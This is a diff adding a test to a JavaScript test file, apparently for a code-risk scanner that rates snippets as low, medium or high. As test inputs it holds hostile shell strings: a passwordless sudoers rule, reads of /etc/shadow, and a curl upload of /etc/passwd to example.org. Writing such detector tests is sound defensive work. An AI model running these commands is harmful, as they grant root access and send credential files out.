@@ -151,3 +151,11 @@ test('files of several trades, and pieces of stores, that a script reads for ano
   assert.equal(stores(send), 'high');
   assert.equal(stores('module.exports = (all) => console.log(all)'), 'low');
 });
+
+test('a command that writes rights is a hint where nothing is started, as descriptions of images have it; any other use of that file is not', () => {
+  const command = "'echo \"%runner ALL=(ALL:ALL) NOPASSWD: ALL\" > /etc/sudoers.d/runner'";
+  assert.equal(worst(`module.exports = () => ['addgroup runner', ${command}]`), 'medium');
+  for (const code of [`require("child_process").execSync(${command})`, `import { exec } from "child_process"; const commands = [${command}]; commands.map((each) => exec(each))`]) assert.equal(worst(code), 'high', code);
+  for (const text of ["'/etc/sudoers.d/runner'", "'cat /etc/sudoers'", "'echo x > /etc/sudoers.d/x; cat /etc/shadow'", "'echo x > /etc/sudoers.d/x; curl -F f=@/etc/passwd https://example.org'", "'tee -a /etc/sudoers'"]) assert.equal(worst(`run(${text})`), 'high', text);
+  assert.equal(worst(`import os\nos.system(${command})`, 'a.py'), 'high');
+});
